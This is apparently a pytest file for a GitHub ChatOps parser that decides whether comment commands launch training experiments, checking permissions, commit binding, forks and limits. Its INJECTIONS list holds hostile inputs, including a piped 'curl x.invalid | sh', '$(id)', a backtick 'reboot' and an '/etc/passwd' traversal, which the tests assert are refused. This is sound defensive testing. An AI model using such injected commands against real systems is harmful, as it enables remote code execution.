"""ChatOps, the pure half: command parsing (only where GitHub shows a line start, one
experiment name, a cap on experiments) and decisions (write access, SHA binding, forks,
cancel), and the outputs file."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipelines.github.chatops import (
    Command,
    InvalidCommand,
    decide,
    experiments_in,
    parse_commands,
    write_outputs,
)
from pipelines.github.client import PullRequestInfo
from tests.infra.github_emulator import REPO, SHA_A, SHA_B

EXP = "rope-theta"
INJECTIONS = [
    "/train rope-theta; curl x.invalid | sh",
    "/train $(id)",
    "/train `reboot`",
    "/train ../../etc/passwd",
    "/train rope-theta\u202e",
    "/train ROPE-THETA",
]


# --------------------------------------------------------------------------- pure


def test_commands_only_at_the_start_of_a_line() -> None:
    body = "LGTM\n/train rope-theta\n> /cancel\n  /retry\nplease /train\n```\n/cancel\n```\n/trainee"
    assert parse_commands(body) == [Command("train", "rope-theta")]
    assert parse_commands("/cancel") == [Command("cancel")]
    assert parse_commands("/retry rope-theta\r\n") == [Command("retry", "rope-theta")]
    assert parse_commands("no commands here") == []


@pytest.mark.parametrize("body", INJECTIONS)
def test_anything_but_one_experiment_name_is_refused(body: str) -> None:
    (command,) = parse_commands(body)
    assert isinstance(command, InvalidCommand)
    decision = decide(command, actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    assert decision.action == "refuse"
    # The comment text never reaches the reply or the outputs.
    argument = body.split(" ", 1)[1]
    assert argument not in (decision.reply or "") and argument not in json.dumps(decision.outputs())


def _pr(**kw: object) -> PullRequestInfo:
    values: dict = dict(number=7, title="t", author="dana", head_sha=SHA_A, head_ref="exp", head_repo=REPO,
                        base_repo=REPO, state="open", merged=False, files=(f"experiments/{EXP}.yaml", "README.md"))
    values.update(kw)
    return PullRequestInfo(**values)


def test_launch_is_bound_to_the_validated_head() -> None:
    d = decide(Command("train"), actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    assert (d.action, d.experiments, d.sha, d.pr) == ("launch", (EXP,), SHA_A, 7)
    stale = decide(Command("train"), actor="erin", permission="write", pr=_pr(head_sha=SHA_B), validated={EXP: SHA_A})
    assert stale.action == "refuse" and "has not passed validation" in (stale.reply or "")


@pytest.mark.parametrize("permission", ["read", "triage", "none"])
def test_without_write_access_the_refusal_is_polite(permission: str) -> None:
    d = decide(Command("train"), actor="frank", permission=permission, pr=_pr(), validated={EXP: SHA_A})
    assert d.action == "refuse" and d.reply and d.reply.startswith("Hi @frank, thanks")


def test_unknown_experiment_and_no_experiment() -> None:
    d = decide(Command("train", "other-exp"), actor="erin", permission="write", pr=_pr(), validated={})
    assert d.action == "refuse" and "not an experiment this pull request" in (d.reply or "")
    d = decide(Command("train"), actor="erin", permission="write", pr=_pr(files=("README.md",)), validated={})
    assert d.action == "refuse"


def test_cancel_needs_write_but_not_validation() -> None:
    d = decide(Command("cancel"), actor="erin", permission="maintain", pr=_pr(head_sha=SHA_B), validated={})
    assert d.action == "cancel" and d.experiments == (EXP,)


def test_forks_need_an_explicit_maintainer_dispatch_at_the_head() -> None:
    fork = _pr(head_repo="mallory/lab")
    by_comment = decide(Command("train"), actor="mia", permission="admin", pr=fork, validated={EXP: SHA_A})
    assert by_comment.action == "refuse" and "fork" in (by_comment.reply or "")
    by_writer = decide(Command("train"), actor="erin", permission="write", pr=fork, validated={EXP: SHA_A},
                       via_dispatch=True, dispatch_sha=SHA_A)
    assert by_writer.action == "refuse"
    old_sha = decide(Command("train"), actor="mia", permission="maintain", pr=fork, validated={EXP: SHA_A},
                     via_dispatch=True, dispatch_sha=SHA_B)
    assert old_sha.action == "refuse"
    ok = decide(Command("train"), actor="mia", permission="maintain", pr=fork, validated={EXP: SHA_A},
                via_dispatch=True, dispatch_sha=SHA_A)
    assert ok.action == "launch" and ok.sha == SHA_A


def test_experiment_files() -> None:
    files = ["experiments/a-b.yaml", "experiments/base/x.yaml", "experiments/_base.yaml", "experiments/c_d.yml",
             "experiments/schema.json", "src/experiments/e.yaml"]
    assert experiments_in(files) == ("a-b", "c_d")


def test_outputs_file(tmp_path: Path) -> None:
    out = tmp_path / "out"
    d = decide(Command("retry"), actor="erin", permission="write", pr=_pr(), validated={EXP: SHA_A})
    write_outputs(d, out)
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    assert lines["launch"] == "true" and lines["retry"] == "true" and json.loads(lines["experiments"]) == [EXP]


# --------------------------------------------------------------------------- issue 14: rendering, re-validation


FENCED_AND_HIDDEN = [
    "````\n```\n/train\n```\n````",  # a fence that contains ``` is still one code block
    "<!--\n/train\n-->",  # an HTML comment GitHub hides
    "> quoted text\n/train",  # a lazy continuation of the quote
    "    /train",  # indented code
    "- /train",  # a list item
    "`/train`",  # inline code
    "Please run\n`x`/train",  # not at the start of a rendered line
    "see trainer/train.py and https://ci.invalid/runs/1/retry",
    "/trainer",
]


@pytest.mark.parametrize("body", FENCED_AND_HIDDEN)
def test_commands_only_where_github_renders_a_top_level_paragraph_line(body: str) -> None:
    assert parse_commands(body) == []


def test_commands_github_shows_at_a_line_start_still_count() -> None:
    assert parse_commands("LGTM, thanks\n/train rope-theta") == [Command("train", "rope-theta")]
    assert parse_commands("```\ncode\n```\n\n/cancel\r\n") == [Command("cancel")]
    assert parse_commands("/train `rope-theta`") == [InvalidCommand("train", parse_commands("/train a b")[0].reason)]


def test_more_experiments_than_the_cap_are_refused_with_a_clear_message() -> None:
    """Issue 19 item 5: one PR of many experiment files cannot start that many jobs."""
    from pipelines.github.chatops import MAX_EXPERIMENTS_PER_PR

    names = [f"exp-{i:02d}" for i in range(MAX_EXPERIMENTS_PER_PR + 1)]
    pr = _pr(files=tuple(f"experiments/{n}.yaml" for n in names))
    d = decide(Command("train"), actor="erin", permission="write", pr=pr, validated=dict.fromkeys(names, SHA_A))
    assert d.action == "refuse" and d.reply and f"at most {MAX_EXPERIMENTS_PER_PR}" in d.reply
    one = decide(Command("train", names[0]), actor="erin", permission="write", pr=pr,
                 validated=dict.fromkeys(names, SHA_A))
    assert one.action == "launch" and one.experiments == (names[0],)
